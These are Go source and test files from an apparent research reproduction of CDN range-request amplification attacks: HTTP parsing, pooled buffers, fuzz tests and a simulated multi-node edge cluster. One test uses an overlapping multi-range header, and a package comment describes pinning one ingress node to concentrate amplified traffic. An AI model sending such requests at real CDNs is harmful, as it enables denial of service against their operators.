			return nil, fmt.Errorf("%w: Content-Length %q", ErrMalformedHeader, cl)
		}
		if n > lim.body() {
			return nil, ErrBodyTooLarge
		}
		want := n
		truncated := false
		if maxBody >= 0 && maxBody < want {
			want = maxBody
			truncated = true
		}
		body := make([]byte, want)
		if _, err := io.ReadFull(br, body); err != nil {
			return body, fmt.Errorf("httpwire: short body: %w", err)
		}
		if truncated {
			return body, errTruncated
		}
		return body, nil
	}
	if !untilEOF {
		return nil, nil // requests without Content-Length have no body
	}
	limit := lim.body() + 1
	if maxBody >= 0 && maxBody+1 < limit {
		limit = maxBody + 1
	}
	body, err := io.ReadAll(io.LimitReader(br, limit))
	if err != nil {
		return body, err
	}
	if maxBody >= 0 && int64(len(body)) > maxBody {
		return body[:maxBody], errTruncated
	}
	if int64(len(body)) > lim.body() {
		return nil, ErrBodyTooLarge
	}
	return body, nil
}

// readChunkedBody parses a chunked transfer coding (RFC 7230 §4.1):
// hex-size lines, chunk data, a zero-size terminator and an optional
// trailer section (discarded). Real-world origins stream this way, so
// the TCP demo tools can front servers we did not write.
func readChunkedBody(br *bufio.Reader, lim Limits, maxBody int64) ([]byte, error) {
	var body []byte
	for {
		line, _, err := readLine(br, 4096)
		if err != nil {
			return body, fmt.Errorf("httpwire: chunk size line: %w", err)
		}
		if i := strings.IndexByte(line, ';'); i >= 0 {
			line = line[:i] // drop chunk extensions
		}
		size, err := strconv.ParseInt(strings.TrimSpace(line), 16, 64)
		if err != nil || size < 0 {
			return body, fmt.Errorf("%w: chunk size %q", ErrMalformedHeader, line)
		}
		if size == 0 {
			// Discard any trailers up to the blank line.
			for {
				t, _, err := readLine(br, lim.header())
				if err != nil {
					return body, err
				}
				if t == "" {
					return body, nil
				}
			}
		}
		if int64(len(body))+size > lim.body() {
			return nil, ErrBodyTooLarge
		}
		want := size
		if maxBody >= 0 && int64(len(body))+size > maxBody {
			want = maxBody - int64(len(body))
		}
		// Read straight into the body's tail: no per-chunk scratch
		// allocation, no second copy.
		old := len(body)
		body = slices.Grow(body, int(want))[:old+int(want)]
		if _, err := io.ReadFull(br, body[old:]); err != nil {
			return body, fmt.Errorf("httpwire: short chunk: %w", err)
		}
		if want < size {
			return body, errTruncated
		}
		// Trailing CRLF after the chunk data.
		if _, _, err := readLine(br, 16); err != nil {
			return body, err
		}
	}
}

// WriteChunked serializes a response using chunked transfer coding with
// the given chunk size, for tests that exercise the chunked read path.
func (r *Response) WriteChunked(w io.Writer, chunkSize int) (int64, error) {
	if chunkSize <= 0 {
		chunkSize = 4096
	}
	hs := r.Headers.Clone()
	hs.Del("Content-Length")
	hs.Set("Transfer-Encoding", "chunked")
	line := r.Proto + " " + strconv.Itoa(r.StatusCode) + " " + r.Reason
	total, err := writeMessage(w, line, hs, nil)
	if err != nil {
		return total, err
	}
	body := r.BodyBytes()
	for off := 0; off < len(body); off += chunkSize {
		end := off + chunkSize
		if end > len(body) {
			end = len(body)
		}
		n, err := fmt.Fprintf(w, "%x\r\n", end-off)
		total += int64(n)
		if err != nil {
			return total, err
		}
		m, err := w.Write(body[off:end])
		total += int64(m)
		if err != nil {
			return total, err
		}
		n, err = io.WriteString(w, "\r\n")
		total += int64(n)
		if err != nil {
			return total, err
		}
	}
	n, err := io.WriteString(w, "0\r\n\r\n")
	total += int64(n)
	return total, err
}

// readLine reads one CRLF- (or LF-) terminated line, bounded by max bytes.
// It returns the line without its terminator and the bytes consumed.
func readLine(br *bufio.Reader, max int) (string, int, error) {
	line, err := br.ReadString('\n')
	consumed := len(line)
	if err != nil {
		if err == io.EOF && line != "" {
			return "", consumed, io.ErrUnexpectedEOF
		}
		return "", consumed, err
	}
	if consumed > max {
		return "", consumed, ErrHeaderTooLarge
	}
	line = strings.TrimRight(line, "\r\n")
	return line, consumed, nil
}

func readHeaders(br *bufio.Reader, budget int) (Headers, error) {
	var hs Headers
	for {
		line, n, err := readLine(br, budget)
		if err != nil {
			return nil, err
		}
		budget -= n
		if budget < 0 {
			return nil, ErrHeaderTooLarge
		}
		if line == "" {
			return hs, nil
		}
		colon := strings.IndexByte(line, ':')
		if colon <= 0 {
			return nil, fmt.Errorf("%w: %q", ErrMalformedHeader, line)
		}
		name := line[:colon]
		if strings.ContainsAny(name, " \t") {
			return nil, fmt.Errorf("%w: whitespace in field name %q", ErrMalformedHeader, name)
		}
		hs = append(hs, Header{Name: name, Value: strings.TrimSpace(line[colon+1:])})
	}
}
