package httpwire

// Status codes used by the range-request machinery.
const (
	StatusOK                  = 200
	StatusPartialContent      = 206
	StatusBadRequest          = 400
	StatusNotFound            = 404
	StatusRequestURITooLong   = 414
	StatusRangeNotSatisfiable = 416
	StatusHeaderTooLarge      = 431
	StatusInternalServerError = 500
	StatusBadGateway          = 502
)

// ReasonPhrase returns the canonical reason phrase for a status code.
// Note the paper's Fig 2 shows CDNs answering "206 OK"; we use the
// RFC 7233 phrase "Partial Content".
func ReasonPhrase(code int) string {
	switch code {
	case 100:
		return "Continue"
	case StatusOK:
		return "OK"
	case 201:
		return "Created"
	case 204:
		return "No Content"
	case StatusPartialContent:
		return "Partial Content"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 304:
		return "Not Modified"
	case StatusBadRequest:
		return "Bad Request"
	case 403:
		return "Forbidden"
	case StatusNotFound:
		return "Not Found"
	case 405:
		return "Method Not Allowed"
	case 413:
		return "Payload Too Large"
	case StatusRequestURITooLong:
		return "URI Too Long"
	case StatusRangeNotSatisfiable:
		return "Range Not Satisfiable"
	case StatusHeaderTooLarge:
		return "Request Header Fields Too Large"
	case StatusInternalServerError:
		return "Internal Server Error"
	case StatusBadGateway:
		return "Bad Gateway"
	case 503:
		return "Service Unavailable"
	case 504:
		return "Gateway Timeout"
	default:
		return "Unknown"
	}
}
