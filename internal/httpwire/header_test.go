package httpwire

import "testing"

func TestHeadersGetCaseInsensitive(t *testing.T) {
	var hs Headers
	hs.Add("Content-Type", "image/jpeg")
	for _, name := range []string{"Content-Type", "content-type", "CONTENT-TYPE"} {
		v, ok := hs.Get(name)
		if !ok || v != "image/jpeg" {
			t.Errorf("Get(%q) = %q,%v", name, v, ok)
		}
	}
	if _, ok := hs.Get("Range"); ok {
		t.Error("Get(Range) ok on missing header")
	}
}

func TestHeadersAddPreservesOrderAndDuplicates(t *testing.T) {
	var hs Headers
	hs.Add("Via", "a")
	hs.Add("X-Cache", "MISS")
	hs.Add("Via", "b")
	if got := hs.Values("Via"); len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Errorf("Values(Via) = %v", got)
	}
	if hs[0].Name != "Via" || hs[1].Name != "X-Cache" || hs[2].Name != "Via" {
		t.Errorf("order not preserved: %v", hs)
	}
}

func TestHeadersSet(t *testing.T) {
	var hs Headers
	hs.Add("Range", "bytes=0-0")
	hs.Add("Host", "example.com")
	hs.Add("range", "bytes=1-1")
	hs.Set("Range", "bytes=5-5")
	if got := hs.Values("Range"); len(got) != 1 || got[0] != "bytes=5-5" {
		t.Errorf("after Set, Values(Range) = %v", got)
	}
	// Set keeps the position of the first occurrence.
	if hs[0].Value != "bytes=5-5" {
		t.Errorf("Set moved the field: %v", hs)
	}
	hs.Set("New-Header", "x")
	if v, ok := hs.Get("New-Header"); !ok || v != "x" {
		t.Errorf("Set on absent header: %q,%v", v, ok)
	}
}

func TestHeadersDel(t *testing.T) {
	var hs Headers
	hs.Add("Range", "bytes=0-0")
	hs.Add("Host", "h")
	hs.Add("RANGE", "bytes=1-1")
	if !hs.Del("range") {
		t.Error("Del returned false")
	}
	if hs.Has("Range") {
		t.Error("Range survived Del")
	}
	if len(hs) != 1 || hs[0].Name != "Host" {
		t.Errorf("remaining = %v", hs)
	}
	if hs.Del("Range") {
		t.Error("second Del returned true")
	}
}

func TestHeadersClone(t *testing.T) {
	var hs Headers
	hs.Add("A", "1")
	c := hs.Clone()
	c.Set("A", "2")
	if v, _ := hs.Get("A"); v != "1" {
		t.Error("Clone aliases the original")
	}
	if Headers(nil).Clone() != nil {
		t.Error("Clone(nil) != nil")
	}
}

func TestHeadersWireSize(t *testing.T) {
	var hs Headers
	hs.Add("Host", "example.com") // "Host: example.com\r\n" = 19
	hs.Add("Range", "bytes=0-0")  // "Range: bytes=0-0\r\n" = 18
	if got, want := hs.WireSize(), 19+18; got != want {
		t.Errorf("WireSize = %d, want %d", got, want)
	}
}
