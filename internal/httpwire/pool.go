package httpwire

import (
	"bufio"
	"io"
	"sync"
)

// This file holds the pooled-buffer substrate of the wire path. Every
// request the experiments measure crosses several hops (client, edge,
// origin), and each hop used to pay fresh allocations for its bufio
// wrappers and header serialization. The pools below make those costs
// amortized-zero without changing a single wire byte: pooling affects
// only where scratch memory comes from, never what is written, so the
// exact-byte accounting the amplification factors depend on is
// untouched.
//
// Discipline: a pooled object must not be referenced after it is Put
// back. Readers are Reset(nil) on Put so a stale use fails fast rather
// than reading another message's connection.

// maxPooledScratch bounds the capacity of header scratch buffers kept
// in the pool, so one pathological message (an OBR Range header runs to
// hundreds of KB) does not pin its scratch forever.
const maxPooledScratch = 64 << 10

var readerPool = sync.Pool{
	New: func() any { return bufio.NewReader(nil) },
}

// GetReader returns a pooled *bufio.Reader reading from r. Callers must
// return it with PutReader once every byte they need from it has been
// materialized (parsed message bodies are copied out by the readers, so
// returning the reader never invalidates a parsed message).
func GetReader(r io.Reader) *bufio.Reader {
	br := readerPool.Get().(*bufio.Reader)
	br.Reset(r)
	return br
}

// PutReader recycles a reader obtained from GetReader. The reader is
// detached from its source first, so buffered bytes from one connection
// can never leak into the next message parsed through the pool.
func PutReader(br *bufio.Reader) {
	br.Reset(nil)
	readerPool.Put(br)
}

var writerPool = sync.Pool{
	New: func() any { return bufio.NewWriter(nil) },
}

// GetWriter returns a pooled *bufio.Writer writing to w. The caller
// owns flushing: PutWriter discards unflushed bytes (the writer may be
// wrapping a broken connection by then).
func GetWriter(w io.Writer) *bufio.Writer {
	bw := writerPool.Get().(*bufio.Writer)
	bw.Reset(w)
	return bw
}

// PutWriter recycles a writer obtained from GetWriter, discarding any
// unflushed bytes.
func PutWriter(bw *bufio.Writer) {
	bw.Reset(nil)
	writerPool.Put(bw)
}

var scratchPool = sync.Pool{
	New: func() any {
		b := make([]byte, 0, 4096)
		return &b
	},
}

// getScratch returns a reusable byte slice for header serialization.
func getScratch() *[]byte { return scratchPool.Get().(*[]byte) }

// putScratch recycles a scratch buffer, dropping ones that grew past
// maxPooledScratch.
func putScratch(b *[]byte) {
	if cap(*b) > maxPooledScratch {
		return
	}
	*b = (*b)[:0]
	scratchPool.Put(b)
}

var copyBufPool = sync.Pool{
	New: func() any {
		b := make([]byte, 32<<10)
		return &b
	},
}

// CopyBody copies src to dst through a pooled transfer buffer
// (io.CopyBuffer-style), so streaming a body never allocates a fresh
// intermediate buffer per message.
func CopyBody(dst io.Writer, src io.Reader) (int64, error) {
	buf := copyBufPool.Get().(*[]byte)
	n, err := io.CopyBuffer(dst, src, *buf)
	copyBufPool.Put(buf)
	return n, err
}

// readerBody adapts an io.Reader into the io.WriterTo a streamed
// response body needs, draining it through the pooled transfer buffer.
// It is single-shot: once written, the reader is consumed.
type readerBody struct {
	src io.Reader
	n   int64 // declared size, for accounting
}

func (rb readerBody) WriteTo(w io.Writer) (int64, error) {
	return CopyBody(w, io.LimitReader(rb.src, rb.n))
}
