package httpwire

import (
	"bufio"
	"strings"
	"testing"
)

func FuzzReadRequest(f *testing.F) {
	for _, seed := range []string{
		"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /1KB.jpg HTTP/1.1\r\nHost: example.com\r\nRange: bytes=0-0\r\n\r\n",
		"GET /x HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc",
		"POST /x HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
		"\r\n\r\n",
		"GET /x HTTP/1.1\nHost: h\n\n",
		"GET /x HTTP/1.1\r\nBad Name: v\r\n\r\n",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		req, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)), Limits{MaxHeaderBytes: 64 << 10, MaxBodyBytes: 1 << 20})
		if err != nil {
			return
		}
		// Accepted requests re-serialize and re-parse to the same shape.
		var b strings.Builder
		if _, err := req.WriteTo(&b); err != nil {
			t.Fatalf("WriteTo: %v", err)
		}
		if b.Len() != req.WireSize() {
			t.Fatalf("WireSize %d != serialized %d", req.WireSize(), b.Len())
		}
		again, err := ReadRequest(bufio.NewReader(strings.NewReader(b.String())), Limits{})
		if err != nil {
			t.Fatalf("reparse of accepted request failed: %v (%q)", err, b.String())
		}
		if again.Method != req.Method || again.Target != req.Target || len(again.Headers) != len(req.Headers) {
			t.Fatal("reparse changed the request")
		}
	})
}

func FuzzReadResponse(f *testing.F) {
	for _, seed := range []string{
		"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nab",
		"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-0/10\r\nContent-Length: 1\r\n\r\nx",
		"HTTP/1.1 416 Range Not Satisfiable\r\nContent-Range: bytes */10\r\n\r\n",
		"HTTP/1.1 304 Not Modified\r\n\r\n",
		"HTTP/1.1 200 OK\r\n\r\nunframed body",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		limits := Limits{MaxHeaderBytes: 64 << 10, MaxBodyBytes: 1 << 20}
		resp, err := ReadResponse(bufio.NewReader(strings.NewReader(raw)), limits)

		// The pooled reader path must agree with a fresh bufio.Reader on
		// every input — same accept/reject decision, same parsed bytes —
		// and pool reuse must never leak bytes from a previous message
		// into this one (the pool is pre-dirtied with a decoy).
		decoy := GetReader(strings.NewReader("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nX-Decoy: leak\r\n\r\nLEAKS"))
		if _, derr := ReadResponse(decoy, limits); derr != nil {
			t.Fatalf("decoy parse: %v", derr)
		}
		PutReader(decoy)
		pr := GetReader(strings.NewReader(raw))
		presp, perr := ReadResponse(pr, limits)
		PutReader(pr)
		if (err == nil) != (perr == nil) {
			t.Fatalf("pooled reader disagreed: fresh err=%v pooled err=%v", err, perr)
		}
		if err != nil {
			return
		}
		if presp.StatusCode != resp.StatusCode || string(presp.Body) != string(resp.Body) ||
			len(presp.Headers) != len(resp.Headers) {
			t.Fatal("pooled reader parsed a different message")
		}

		if resp.StatusCode < 100 || resp.StatusCode > 999 {
			t.Fatalf("accepted status %d", resp.StatusCode)
		}
		var b strings.Builder
		if _, err := resp.WriteTo(&b); err != nil {
			t.Fatalf("WriteTo: %v", err)
		}
		if b.Len() != resp.WireSize() {
			t.Fatalf("WireSize mismatch")
		}
	})
}
