package httpwire

import (
	"bufio"
	"strings"
	"testing"
)

func FuzzReadRequest(f *testing.F) {
	for _, seed := range []string{
		"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /1KB.jpg HTTP/1.1\r\nHost: example.com\r\nRange: bytes=0-0\r\n\r\n",
		"GET /x HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc",
		"POST /x HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
		"\r\n\r\n",
		"GET /x HTTP/1.1\nHost: h\n\n",
		"GET /x HTTP/1.1\r\nBad Name: v\r\n\r\n",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		req, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)), Limits{MaxHeaderBytes: 64 << 10, MaxBodyBytes: 1 << 20})
		if err != nil {
			return
		}
		// Accepted requests re-serialize and re-parse to the same shape.
		var b strings.Builder
		if _, err := req.WriteTo(&b); err != nil {
			t.Fatalf("WriteTo: %v", err)
		}
		if b.Len() != req.WireSize() {
			t.Fatalf("WireSize %d != serialized %d", req.WireSize(), b.Len())
		}
		again, err := ReadRequest(bufio.NewReader(strings.NewReader(b.String())), Limits{})
		if err != nil {
			t.Fatalf("reparse of accepted request failed: %v (%q)", err, b.String())
		}
		if again.Method != req.Method || again.Target != req.Target || len(again.Headers) != len(req.Headers) {
			t.Fatal("reparse changed the request")
		}
	})
}

func FuzzReadResponse(f *testing.F) {
	for _, seed := range []string{
		"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nab",
		"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-0/10\r\nContent-Length: 1\r\n\r\nx",
		"HTTP/1.1 416 Range Not Satisfiable\r\nContent-Range: bytes */10\r\n\r\n",
		"HTTP/1.1 304 Not Modified\r\n\r\n",
		"HTTP/1.1 200 OK\r\n\r\nunframed body",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		resp, err := ReadResponse(bufio.NewReader(strings.NewReader(raw)), Limits{MaxHeaderBytes: 64 << 10, MaxBodyBytes: 1 << 20})
		if err != nil {
			return
		}
		if resp.StatusCode < 100 || resp.StatusCode > 999 {
			t.Fatalf("accepted status %d", resp.StatusCode)
		}
		var b strings.Builder
		if _, err := resp.WriteTo(&b); err != nil {
			t.Fatalf("WriteTo: %v", err)
		}
		if b.Len() != resp.WireSize() {
			t.Fatalf("WireSize mismatch")
		}
	})
}
