package httpwire

import (
	"bufio"
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"testing/quick"
)

func TestRequestWriteAndWireSize(t *testing.T) {
	req := NewRequest("GET", "/1KB.jpg", "example.com")
	req.Headers.Add("Range", "bytes=0-0")
	var buf bytes.Buffer
	n, err := req.WriteTo(&buf)
	if err != nil {
		t.Fatal(err)
	}
	want := "GET /1KB.jpg HTTP/1.1\r\nHost: example.com\r\nRange: bytes=0-0\r\n\r\n"
	if buf.String() != want {
		t.Errorf("serialized = %q, want %q", buf.String(), want)
	}
	if int(n) != len(want) || req.WireSize() != len(want) {
		t.Errorf("n=%d WireSize=%d want %d", n, req.WireSize(), len(want))
	}
}

func TestRequestRoundTrip(t *testing.T) {
	req := NewRequest("GET", "/file?cb=123", "origin.test")
	req.Headers.Add("Range", "bytes=0-,0-,0-")
	req.Headers.Add("User-Agent", "rangeamp/1.0")
	var buf bytes.Buffer
	if _, err := req.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadRequest(bufio.NewReader(&buf), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got.Method != "GET" || got.Target != "/file?cb=123" || got.Proto != Proto11 {
		t.Errorf("start line = %s %s %s", got.Method, got.Target, got.Proto)
	}
	if got.Path() != "/file" || got.Query() != "cb=123" || got.Host() != "origin.test" {
		t.Errorf("Path=%q Query=%q Host=%q", got.Path(), got.Query(), got.Host())
	}
	if v, _ := got.Headers.Get("Range"); v != "bytes=0-,0-,0-" {
		t.Errorf("Range = %q", v)
	}
}

func TestRequestNoQuery(t *testing.T) {
	req := NewRequest("GET", "/plain", "h")
	if req.Path() != "/plain" || req.Query() != "" {
		t.Errorf("Path=%q Query=%q", req.Path(), req.Query())
	}
}

func TestResponseRoundTrip(t *testing.T) {
	resp := NewResponse(StatusPartialContent)
	resp.Headers.Add("Content-Type", "image/jpeg")
	resp.Headers.Add("Content-Range", "bytes 0-0/1000")
	resp.SetBody([]byte{0xff})
	var buf bytes.Buffer
	if _, err := resp.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != resp.WireSize() {
		t.Errorf("wire bytes %d != WireSize %d", buf.Len(), resp.WireSize())
	}
	got, err := ReadResponse(bufio.NewReader(&buf), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got.StatusCode != 206 || got.Reason != "Partial Content" {
		t.Errorf("status = %d %q", got.StatusCode, got.Reason)
	}
	if !bytes.Equal(got.Body, []byte{0xff}) {
		t.Errorf("body = %v", got.Body)
	}
	if cr, _ := got.Headers.Get("Content-Range"); cr != "bytes 0-0/1000" {
		t.Errorf("Content-Range = %q", cr)
	}
}

func TestResponseSetBodySyncsContentLength(t *testing.T) {
	resp := NewResponse(StatusOK)
	resp.SetBody(make([]byte, 1234))
	if v, _ := resp.Headers.Get("Content-Length"); v != "1234" {
		t.Errorf("Content-Length = %q", v)
	}
	resp.SetBody(nil)
	if v, _ := resp.Headers.Get("Content-Length"); v != "0" {
		t.Errorf("Content-Length after nil = %q", v)
	}
}

func TestReadResponseUntilEOF(t *testing.T) {
	raw := "HTTP/1.1 200 OK\r\nX-Server: apache\r\n\r\nhello world"
	got, err := ReadResponse(bufio.NewReader(strings.NewReader(raw)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if string(got.Body) != "hello world" {
		t.Errorf("body = %q", got.Body)
	}
}

func TestReadResponseNoBodyStatuses(t *testing.T) {
	for _, code := range []string{"204 No Content", "304 Not Modified"} {
		raw := "HTTP/1.1 " + code + "\r\n\r\n"
		got, err := ReadResponse(bufio.NewReader(strings.NewReader(raw)), Limits{})
		if err != nil {
			t.Fatalf("%s: %v", code, err)
		}
		if len(got.Body) != 0 {
			t.Errorf("%s: body = %q", code, got.Body)
		}
	}
}

func TestReadResponseLimited(t *testing.T) {
	body := strings.Repeat("x", 1000)
	raw := "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n" + body
	resp, truncated, err := ReadResponseLimited(bufio.NewReader(strings.NewReader(raw)), Limits{}, 100)
	if err != nil {
		t.Fatal(err)
	}
	if !truncated || len(resp.Body) != 100 {
		t.Errorf("truncated=%v len=%d, want true,100", truncated, len(resp.Body))
	}
	// Limit above the body size: not truncated.
	resp, truncated, err = ReadResponseLimited(bufio.NewReader(strings.NewReader(raw)), Limits{}, 5000)
	if err != nil {
		t.Fatal(err)
	}
	if truncated || len(resp.Body) != 1000 {
		t.Errorf("truncated=%v len=%d, want false,1000", truncated, len(resp.Body))
	}
}

func TestReadRequestErrors(t *testing.T) {
	tests := []struct {
		name string
		raw  string
	}{
		{"empty-start", "\r\n\r\n"},
		{"two-fields", "GET /x\r\n\r\n"},
		{"not-http", "GET /x FTP/1.0\r\n\r\n"},
		{"bad-header", "GET /x HTTP/1.1\r\nNoColonHere\r\n\r\n"},
		{"space-in-name", "GET /x HTTP/1.1\r\nBad Name: v\r\n\r\n"},
		{"empty-name", "GET /x HTTP/1.1\r\n: v\r\n\r\n"},
		{"truncated", "GET /x HTTP/1.1\r\nHost: h"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := ReadRequest(bufio.NewReader(strings.NewReader(tt.raw)), Limits{}); err == nil {
				t.Errorf("ReadRequest(%q) succeeded", tt.raw)
			}
		})
	}
}

func TestReadResponseErrors(t *testing.T) {
	tests := []struct {
		name string
		raw  string
	}{
		{"bad-status", "HTTP/1.1 xx OK\r\n\r\n"},
		{"status-out-of-range", "HTTP/1.1 99 OK\r\n\r\n"},
		{"not-http", "SPDY/1 200 OK\r\n\r\n"},
		{"bad-content-length", "HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n"},
		{"short-body", "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := ReadResponse(bufio.NewReader(strings.NewReader(tt.raw)), Limits{}); err == nil {
				t.Errorf("ReadResponse(%q) succeeded", tt.raw)
			}
		})
	}
}

func TestHeaderLimitEnforced(t *testing.T) {
	raw := "GET /x HTTP/1.1\r\nBig: " + strings.Repeat("a", 10000) + "\r\n\r\n"
	_, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)), Limits{MaxHeaderBytes: 1024})
	if !errors.Is(err, ErrHeaderTooLarge) {
		t.Errorf("err = %v, want ErrHeaderTooLarge", err)
	}
}

func TestBodyLimitEnforced(t *testing.T) {
	raw := "HTTP/1.1 200 OK\r\nContent-Length: 2048\r\n\r\n" + strings.Repeat("a", 2048)
	_, err := ReadResponse(bufio.NewReader(strings.NewReader(raw)), Limits{MaxBodyBytes: 1024})
	if !errors.Is(err, ErrBodyTooLarge) {
		t.Errorf("err = %v, want ErrBodyTooLarge", err)
	}
}

func TestReasonPhrases(t *testing.T) {
	tests := []struct {
		code int
		want string
	}{
		{200, "OK"},
		{206, "Partial Content"},
		{416, "Range Not Satisfiable"},
		{431, "Request Header Fields Too Large"},
		{999, "Unknown"},
	}
	for _, tt := range tests {
		if got := ReasonPhrase(tt.code); got != tt.want {
			t.Errorf("ReasonPhrase(%d) = %q, want %q", tt.code, got, tt.want)
		}
	}
}

func TestRequestCloneIsDeep(t *testing.T) {
	req := NewRequest("GET", "/a", "h")
	req.Body = []byte("xyz")
	c := req.Clone()
	c.Headers.Set("Host", "other")
	c.Body[0] = 'Q'
	if req.Host() != "h" || req.Body[0] != 'x' {
		t.Error("Clone aliases the original")
	}
}

func TestResponseCloneIsDeep(t *testing.T) {
	resp := NewResponse(200)
	resp.SetBody([]byte("abc"))
	c := resp.Clone()
	c.Body[0] = 'Z'
	c.Headers.Set("Content-Length", "99")
	if resp.Body[0] != 'a' {
		t.Error("Clone aliases body")
	}
	if v, _ := resp.Headers.Get("Content-Length"); v != "3" {
		t.Error("Clone aliases headers")
	}
}

func TestWireSizeMatchesSerializationProperty(t *testing.T) {
	f := func(method, target, host, hname, hval string, body []byte) bool {
		clean := func(s string) string {
			s = strings.Map(func(r rune) rune {
				if r < 33 || r > 126 || r == ':' {
					return -1
				}
				return r
			}, s)
			if s == "" {
				return "x"
			}
			return s
		}
		req := NewRequest(clean(method), "/"+clean(target), clean(host))
		req.Headers.Add(clean(hname), clean(hval))
		req.Body = body
		var buf bytes.Buffer
		n, err := req.WriteTo(&buf)
		return err == nil && int(n) == req.WireSize() && buf.Len() == req.WireSize()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

func TestResponseRoundTripProperty(t *testing.T) {
	f := func(body []byte) bool {
		resp := NewResponse(200)
		resp.Headers.Add("Accept-Ranges", "bytes")
		resp.SetBody(body)
		var buf bytes.Buffer
		if _, err := resp.WriteTo(&buf); err != nil {
			return false
		}
		got, err := ReadResponse(bufio.NewReader(&buf), Limits{})
		if err != nil {
			return false
		}
		return bytes.Equal(got.Body, body) && got.WireSize() == resp.WireSize()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

var _ io.WriterTo = (*Request)(nil)
var _ io.WriterTo = (*Response)(nil)

func TestReadRequestWithBody(t *testing.T) {
	raw := "POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\n\r\nhello"
	req, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if string(req.Body) != "hello" {
		t.Errorf("body = %q", req.Body)
	}
}

func TestReadRequestWithChunkedBody(t *testing.T) {
	raw := "POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" +
		"3\r\nabc\r\n0\r\n\r\n"
	req, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if string(req.Body) != "abc" {
		t.Errorf("body = %q", req.Body)
	}
}
