// Package cluster models a CDN's distributed edge deployment: many
// ingress nodes sharing one vendor profile, each with its own cache and
// traffic counters, plus the client-side node mapping. It exists for
// two claims in the paper:
//
//   - §IV-C: the OBR attack's victims are *specific ingress nodes* —
//     "the attacker can send all multi-range requests to the same
//     ingress node of the FCDN" — so an attacker who pins one node
//     concentrates the amplified traffic there;
//   - §VI-A: the authors' own ethics control is the inverse — "we send
//     all requests to completely different ingress nodes of the CDN to
//     minimize or avoid real impacts on the performance of specific
//     nodes."
//
// Pinned vs. spread selection makes both measurable.
package cluster

import (
	"fmt"
	"math/rand"

	"repro/internal/cache"
	"repro/internal/cdn"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/vendor"
)

// Node is one ingress node of the deployment.
type Node struct {
	ID          string
	Addr        string
	Edge        *cdn.Edge
	ClientSeg   *netsim.Segment // client <-> this node
	UpstreamSeg *netsim.Segment // this node <-> upstream
}

// Cluster is a set of ingress nodes sharing one vendor profile.
type Cluster struct {
	Name      string
	Nodes     []*Node
	listeners []*netsim.Listener
}

// Config assembles a cluster.
type Config struct {
	Name         string // cluster name, used in node addresses
	Profile      *vendor.Profile
	Network      *netsim.Network
	UpstreamAddr string
	NodeCount    int
	Inspector    cdn.Inspector // optional, shared by all nodes

	// Metrics is the registry every node's segments, edge and cache
	// resolve their series against. Nil means metrics.Default.
	Metrics *metrics.Registry
}

// New stands up NodeCount edge nodes listening at
// "node<i>.<name>:80", each with an independent cache, state and
// traffic counters (as geographically separate PoPs have).
func New(cfg Config) (*Cluster, error) {
	if cfg.NodeCount < 1 {
		return nil, fmt.Errorf("cluster: need at least one node, got %d", cfg.NodeCount)
	}
	c := &Cluster{Name: cfg.Name}
	for i := 0; i < cfg.NodeCount; i++ {
		id := fmt.Sprintf("node%d", i)
		addr := fmt.Sprintf("%s.%s:80", id, cfg.Name)
		upstreamSeg := netsim.NewSegmentIn(cfg.Metrics, id+"-upstream")
		edge, err := cdn.NewEdge(cdn.Config{
			Profile:      cfg.Profile.Clone(),
			Network:      cfg.Network,
			UpstreamAddr: cfg.UpstreamAddr,
			UpstreamSeg:  upstreamSeg,
			Cache:        cache.New(cache.Config{IncludeQueryInKey: true, Metrics: cfg.Metrics}),
			Inspector:    cfg.Inspector,
			Metrics:      cfg.Metrics,
		})
		if err != nil {
			c.Close()
			return nil, err
		}
		l, err := cfg.Network.Listen(addr)
		if err != nil {
			c.Close()
			return nil, err
		}
		go edge.Serve(l)
		c.listeners = append(c.listeners, l)
		c.Nodes = append(c.Nodes, &Node{
			ID:          id,
			Addr:        addr,
			Edge:        edge,
			ClientSeg:   netsim.NewSegmentIn(cfg.Metrics, id+"-client"),
			UpstreamSeg: upstreamSeg,
		})
	}
	return c, nil
}

// Close shuts every node's listener down.
